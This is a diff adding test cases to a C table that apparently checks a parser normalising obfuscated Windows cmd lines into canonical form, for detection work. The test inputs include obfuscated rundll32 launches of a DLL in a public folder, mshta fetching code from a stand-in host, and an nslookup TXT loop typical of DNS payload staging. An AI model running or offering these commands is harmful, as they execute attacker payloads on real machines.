@@ -238,6 +238,9 @@ static const struct {
      "chrome-extension://abcdefghijklmnop/ --parent-window=0>"},
     {"cmd /c r^u^nd\"ll\"32 C:\\Users\\Public\\a.dll,Run > nul 2>&1", NULL,
      "cmd.exe /c n:<rund\"ll\"32 C:\\Users\\Public\\a.dll,Run>"},
+    {"cmd /c ;,rundll32;,C:\\Users\\Public\\a.dll,Run", NULL,
+     "cmd.exe /c n:<rundll32 C:\\Users\\Public\\a.dll,Run>"},
+    {"cmd /c my;file.txt", NULL, "cmd.exe /c N:<my;file.txt>"},
     {"cmd /c start \"\" /min /d C:\\x mshta https://h.example/a & echo done", NULL,
      "cmd.exe /c N:<mshta https://h.example/a> in:C:\\x N:<echo done>"},
     {"cmd.exe /c for /f \"tokens=2 delims==\" %i in ('nslookup -q^=txt step1.files.example.org "
